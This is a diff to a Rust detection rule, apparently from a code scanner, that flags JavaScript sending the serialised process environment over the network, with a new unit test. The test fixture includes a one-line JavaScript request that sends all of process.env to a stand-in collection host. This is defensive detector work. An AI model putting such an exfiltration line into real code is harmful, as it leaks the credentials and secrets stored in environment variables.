@@ -69,6 +69,15 @@ const SERIALIZERS: &[&str] = &[
 
 const BUNDLE_BYTES: usize = 1_000_000;
 
+/// Whether call `inner` is written inside the arguments of call `outer` (same line, starting
+/// after it, its source text part of the outer call's).
+fn nested_in(inner: &crate::facts::Call, outer: &crate::facts::Call) -> bool {
+    inner.line == outer.line
+        && inner.column > outer.column
+        && !inner.excerpt.is_empty()
+        && outer.excerpt.contains(inner.excerpt.as_str())
+}
+
 impl FileRule for EnvHarvest {
     fn info(&self) -> &'static RuleInfo {
         &INFO
@@ -78,10 +87,12 @@ impl FileRule for EnvHarvest {
         let serialized = file.calls.iter().find(|c| {
             SERIALIZERS.contains(&sinks::normalize(&c.callee)) && c.args.first().is_some_and(|a| holds_env(a, 3))
         });
-        let sent_directly = file
-            .calls
-            .iter()
-            .find(|c| sinks::is_network_call(c) && c.args.iter().any(|a| holds_env(a, 1)));
+        // `https.get(url + qs.stringify(process.env))`: the serialised environment is an
+        // argument of the request itself.
+        let sent_directly = file.calls.iter().find(|c| {
+            sinks::is_network_call(c)
+                && (c.args.iter().any(|a| holds_env(a, 1)) || serialized.is_some_and(|s| nested_in(s, c)))
+        });
 
         let mut secrets: Vec<(&str, u32)> = Vec::new();
         for read in &file.member_reads {
@@ -279,6 +290,20 @@ mod tests {
     fn child_env_spread_is_quiet() {
         let source = "const { spawn } = require('child_process');\nspawn('node', ['x.js'], { env: { ...process.env, FORCE_COLOR: '1' } });";
         assert!(run(source).is_empty());
+    }
+
+    #[test]
+    fn env_serialised_into_the_request_url_is_critical() {
+        // The serialised environment is part of the request's own argument: sent, not just
+        // serialised somewhere near a network call.
+        let source = "const https = require('https'), qs = require('querystring');\nhttps.get('https://collect.example-svc.net/r?' + qs.stringify(process.env));";
+        let findings = run(source);
+        assert_eq!(findings.len(), 1, "{findings:?}");
+        assert_eq!(findings[0].severity, Severity::Critical);
+        assert_eq!(findings[0].confidence, Confidence::High);
+        // Serialised for a log line while the file also fetches something else: not sent.
+        let logged = "const https = require('https');\nconsole.log(JSON.stringify(process.env));\nhttps.get('https://example.com/version.json');";
+        assert!(worst(logged) < Severity::Critical, "{:?}", run(logged));
     }
 
     #[test]
